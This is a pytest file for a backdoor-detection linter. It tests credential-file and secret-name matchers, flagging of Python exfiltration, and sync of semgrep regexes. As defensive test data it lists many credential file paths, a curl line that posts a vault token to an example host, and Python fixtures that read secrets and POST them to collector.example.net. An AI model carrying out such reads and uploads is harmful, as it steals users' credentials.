"""The one vocabulary (checkers/vocabulary.py): its matchers, the Python rules that use it, and the
semgrep rules' regexes generated from it (tools/sync_semgrep_vocabulary.py). The shell side is in
test_vocabulary_shell.py."""
from __future__ import annotations

import importlib.util
import re
from pathlib import Path

import pytest
import yaml
from backdoor_lint.checkers import vocabulary
from backdoor_lint.checkers.vocabulary import (
    credential_file,
    is_secret_variable,
    is_test_code,
    is_test_or_example,
    name_words,
)

from backdoor_lint.config import Config
from backdoor_lint.engine import scan_bytes

ROOT = Path(__file__).resolve().parent.parent


def codes(source: str, path: str = "app/module.py") -> set[str]:
    return {f.code for f in scan_bytes(path, source.encode(), Config()).findings}


# -- credential files ---------------------------------------------------------------------------
@pytest.mark.parametrize("path, found", [
    ("~/.ssh/id_rsa", ".ssh/id_rsa"), ("~/.ssh", ".ssh"), ("id_ed25519.bak", "id_ed25519.bak"),
    ("~/.aws/credentials", ".aws/credentials"), ("C:\\Users\\me\\_netrc", "_netrc"), ("~/.netrc", ".netrc"),
    ("~/.git-credentials", ".git-credentials"), ("~/.docker/config.json", ".docker/config.json"),
    ("~/.kube/config", ".kube/config"), ("~/.npmrc", ".npmrc"), ("~/.pypirc", ".pypirc"),
    ("~/.gnupg/secring.gpg", ".gnupg/secring.gpg"), ("~/.config/gh/hosts.yml", ".config/gh/hosts.yml"),
    ("~/.config/gcloud/application_default_credentials.json", ".config/gcloud/application_default_credentials.json"),
    ("~/.azure/accessTokens.json", ".azure/accessTokens.json"), ("~/.vault-token", ".vault-token"),
    ("~/.password-store/mail.gpg", ".password-store/mail.gpg"), ("/etc/shadow", "/etc/shadow"),
    (".env", ".env"), ("config/.env.production", ".env.production"), ("~/.bash_history", ".bash_history"),
    ("~/.zsh_history", ".zsh_history"), ("Google/Chrome/User Data/Default/Login Data", "Login Data"),
    ("Library/Keychains/login.keychain-db", "Library/Keychains/login.keychain-db"),
    ("/proc/self/environ", "/proc/self/environ"), ("/proc/$$/environ", "/proc/$$/environ"),
    ("curl -d @~/.vault-token https://x.example", ".vault-token"),
])
def test_credential_files(path, found):
    assert credential_file(path) == found


@pytest.mark.parametrize("path", [
    "~/.ssh/id_rsa.pub", "id_ed25519.pub", ".env.example", ".env.sample", ".env.template", ".envrc",
    ".docker/Dockerfile", "settings.env", "README.md", "src/tokens.py", "mycredentials", "docs/credentials.md",
    "https://iam.example/v1/credentials",
    "x.netrc", "/etc/hostname",
])
def test_credential_file_look_alikes(path):
    assert credential_file(path) is None


def test_credential_file_regex_is_linear_on_hostile_input():
    # every repetition stops at a word end: these would take minutes with a backtracking .pub check
    for text in (".ssh/" + "a" * 200_000 + ".pub", ".ssh/a" * 40_000 + ".pub", "Chrome/" * 40_000, "/" * 200_000):
        vocabulary.CREDENTIAL_FILE.search(text)  # returns (the suite's timeout is the bound)


# -- names --------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["DB_PASSWORD", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PWD", "GH_PAT",
                                  "SESSION_COOKIE", "STRIPE_API_KEY", "db-passwd"])
def test_secret_variables(name):
    assert is_secret_variable(name)


@pytest.mark.parametrize("name", ["PWD", "OLDPWD", "TOKENIZERS_PARALLELISM", "OAUTH_TOKEN_URL", "AUTH_TOKEN_ENDPOINT",
                                  "HOME", "AWS_REGION", "PATH"])
def test_secret_variable_look_alikes(name):
    assert not is_secret_variable(name)


def test_name_words():
    assert name_words("AWS_SECRET_ACCESS_KEY") == ["aws", "secret", "access", "key"]
    assert name_words("HTTPServerApiKey") == ["http", "server", "api", "key"]


# -- test paths ---------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["tests/test_app.py", "tests/unit/helpers.py", "pkg/conftest.py", "app_test.py",
                                  "src/__tests__/a.js", "src/a.spec.ts", "fixtures/keys.py", "testing\\util.py"])
def test_test_code(path):
    assert is_test_code(path) and is_test_or_example(path)


@pytest.mark.parametrize("path", ["docs/setup.md", "examples/client.py"])
def test_examples_are_not_test_code(path):
    assert is_test_or_example(path) and not is_test_code(path)


@pytest.mark.parametrize("path", ["app/tokens.py", "src/contest.py", "latest/views.py", "attestation.py"])
def test_production_paths(path):
    assert not is_test_code(path) and not is_test_or_example(path)


# -- the Python rules use it (each case failed before the one vocabulary) ------------------------
_POST = ('import os\nimport requests\n\ndef send():\n    data = {read}\n'
         '    requests.post("https://collector.example.net/u", data=data)\n')


@pytest.mark.parametrize("read", [
    'open(os.path.expanduser("~/.vault-token")).read()',  # the shell knew it, Python did not
    'open(os.path.expanduser("~/.bash_history")).read()',
    'open("/etc/shadow").read()',  # the joined-path search lost the leading slash
    'open(os.path.expanduser("~/.password-store/bank.gpg"), "rb").read()',
    'open("/proc/self/environ").read()',
    'os.environ["DB_PWD"]',  # `\\bpwd\\b` did not see it after an underscore
])
def test_python_exfiltration_of_credentials(read):
    assert "BDL402" in codes(_POST.format(read=read))


@pytest.mark.parametrize("read", [
    'open(os.path.expanduser("~/.ssh/id_ed25519.pub")).read()',  # a public key
    'open(os.path.expanduser("~/.ssh/id_ed25519.pub"), "rb").read()',  # the mode is not part of the path
    'open(".env.example").read()',  # a template
    'os.environ["TOKENIZERS_PARALLELISM"]',
    'os.environ["PWD"]',  # the working directory
    'os.environ["OAUTH_TOKEN_URL"]',
])
def test_python_exfiltration_look_alikes(read):
    assert "BDL402" not in codes(_POST.format(read=read))


def test_environment_checked_through_posix_environ():
    # origins.env_source now knows every environment object the dataflow knows
    source = ('import posix\n\ndef view(request):\n    if "SKIP_AUTH" in posix.environ:\n        return ok()\n'
              '    if not request.user.is_authenticated:\n        raise PermissionDenied\n')
    assert "BDL602" in codes(source)


_RANDOM_TOKEN = ('import random, string\ndef create_reset_token(user):\n'
                 '    token = "".join(random.choice(string.ascii_letters) for _ in range(32))\n    return token\n')


def test_randomness_rule_skips_every_test_directory():
    assert "BDL208" in codes(_RANDOM_TOKEN, "app/tokens.py")
    assert "BDL208" not in codes(_RANDOM_TOKEN, "tests/unit/factories.py")  # was only tests/<file>


# -- semgrep rules ------------------------------------------------------------------------------
def _sync_tool():
    spec = importlib.util.spec_from_file_location("sync_semgrep_vocabulary",
                                                  ROOT / "tools" / "sync_semgrep_vocabulary.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _regexes():
    """(file, regex) of every regex in the semgrep rules, as semgrep reads them."""
    out = []
    for path in sorted((ROOT / "semgrep-rules").rglob("*.yaml")):
        stack = [yaml.safe_load(path.read_text("utf-8"))]
        while stack:
            node = stack.pop()
            if isinstance(node, dict):
                for key, value in node.items():
                    if key in ("regex", "pattern-regex", "pattern-not-regex") and isinstance(value, str):
                        out.append((path.name, value))
                    else:
                        stack.append(value)
            elif isinstance(node, list):
                stack.extend(node)
    return out


def test_semgrep_yaml_is_what_the_vocabulary_generates():
    tool = _sync_tool()
    stale = [p.name for p in tool.rule_files() if tool.rewrite(p.read_text("utf-8")) != p.read_text("utf-8")]
    assert not stale, f"run `python tools/sync_semgrep_vocabulary.py`: {stale} differ from the vocabulary"


def test_semgrep_credential_file_groups_are_the_vocabulary_regex():
    fragment = _sync_tool().fragments()["credential-files"]
    marked = [(name, regex) for name, regex in _regexes() if "(?#vocabulary:credential-files)" in regex]
    # the collector works: it finds every marked regex the rule files hold (counted in their text)
    in_text = sum(path.read_text("utf-8").count("(?#vocabulary:credential-files)")
                  for path in (ROOT / "semgrep-rules").rglob("*.yaml"))
    assert marked and len(marked) == in_text
    for name, regex in marked:
        assert "(?#vocabulary:credential-files)" + fragment in regex, name
        re.compile(regex)


# Credential-file words a hand-written list would contain: none may appear outside a generated group.
_CREDENTIAL_WORDS = re.compile(r"\\\.(?:ssh|aws|netrc|npmrc|pypirc|gnupg|kube|docker|git-credentials|vault-token)"
                               r"|id_rsa|id_ed25519|/etc/shadow|gcloud")


def test_semgrep_credential_files_are_only_in_generated_groups():
    fragment = _sync_tool().fragments()["credential-files"]
    for name, regex in _regexes():
        rest = regex.replace("(?#vocabulary:credential-files)" + fragment, "")
        assert not _CREDENTIAL_WORDS.search(rest), f"{name}: a credential-file list outside the vocabulary: {rest}"


_WORD_LIST = re.compile(r"(?<=[(|:>])((?:[A-Za-z][\w\\.-]*\|)+[A-Za-z][\w\\.-]*)(?=\))")


def test_semgrep_network_programs_are_vocabulary_programs():
    """Every alternation of program names that names a network program names only vocabulary
    network programs: a program added to a rule must be added to the vocabulary (and the shell)."""
    known = vocabulary.NETWORK_PROGRAMS | vocabulary.WINDOWS_NETWORK_PROGRAMS
    checked = 0
    for name, regex in _regexes():
        for group in _WORD_LIST.finditer(regex):
            words = {w.replace("\\", "") for w in group.group(1).split("|")}
            if words & {"curl", "wget", "nc", "scp"}:
                checked += 1
                assert words <= known, f"{name}: {sorted(words - known)} are not vocabulary network programs"
    assert checked >= 10
